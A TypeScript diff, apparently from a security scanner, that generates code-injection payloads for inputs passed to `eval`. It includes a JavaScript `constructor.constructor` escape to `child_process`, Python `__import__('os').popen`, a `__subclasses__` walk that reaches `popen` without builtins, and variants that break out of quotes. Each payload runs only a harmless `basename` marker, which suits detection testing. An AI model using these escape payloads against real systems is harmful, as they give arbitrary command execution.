@@ -1,0 +1,60 @@
+// Text that `eval` and its kin take for a program: alone, and inside a quoted string of the program.
+
+import type { Proof } from '#model/injection.ts';
+import { type InjectionGroup, type InjectionKind, type Mark, says, single, vocabulary } from './injection-kind.ts';
+
+const CALCULATING = vocabulary(
+	'calculate calculator calc math maths expression formula equation evaluate eval compute condition filter rule',
+);
+
+export const code: InjectionKind = {
+	class: 'code',
+	groups(target) {
+		if (target.kind !== 'text') return [];
+		const likely = says(target, CALCULATING) ? 12 : 0;
+		const weight = (language: 'node' | 'python') => (target.language === 'other' || target.language === language ? 70 : 30) + likely;
+		const [js, py] = [weight('node'), weight('python')];
+		return [
+			one(js, 'a JavaScript expression', javascript),
+			one(js - 9, 'JavaScript between single quotes', (mark) => `'+${javascript(mark)}+'`),
+			one(js - 10, 'JavaScript between double quotes', (mark) => `"+${javascript(mark)}+"`),
+			one(py, "__import__('os')", (mark) => `__import__('os').popen('${command(mark)}').read()`),
+			// Needs no builtins: they may have been taken away.
+			one(py - 1, 'a Python expression that walks up the classes', classes),
+			one(py - 9, 'Python between single quotes', (mark) => `'+${quoteless(mark)}+'`),
+			one(py - 10, 'Python between double quotes', (mark) => `"+${quoteless(mark)}+"`),
+		];
+	},
+};
+
+function one(weight: number, variant: string, text: (mark: Mark) => string): InjectionGroup {
+	return single(weight, (mark) => ({ variant, value: text(mark), proofs: proofs(mark) }));
+}
+
+function proofs({ product }: Mark): readonly Proof[] {
+	return [
+		{ kind: 'ran', program: 'basename', word: product },
+		{ kind: 'printed', text: product },
+	];
+}
+
+/** The shell computes it: the number itself is not in the text. */
+function command({ left, right }: Mark): string {
+	return `basename $((${left}*${right}))`;
+}
+
+/** No quotes in it. In a context of its own, the way out is the constructor of what was put into it. */
+function javascript({ left, right }: Mark): string {
+	const run = `p.getBuiltinModule(/child_process/.source).execFileSync(/basename/.source,[${left}*${right}+[]])+[]`;
+	return `(p=>${run})(globalThis.process||this.constructor.constructor(/return process/.source)())`;
+}
+
+function classes(mark: Mark): string {
+	const found = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]";
+	return `${found}.__init__.__globals__['popen']('${command(mark)}').read()`;
+}
+
+function quoteless(mark: Mark): string {
+	const text = (value: string) => `bytes([${[...Buffer.from(value)].join(',')}]).decode()`;
+	return `__import__(${text('os')}).popen(${text(command(mark))}).read()`;
+}
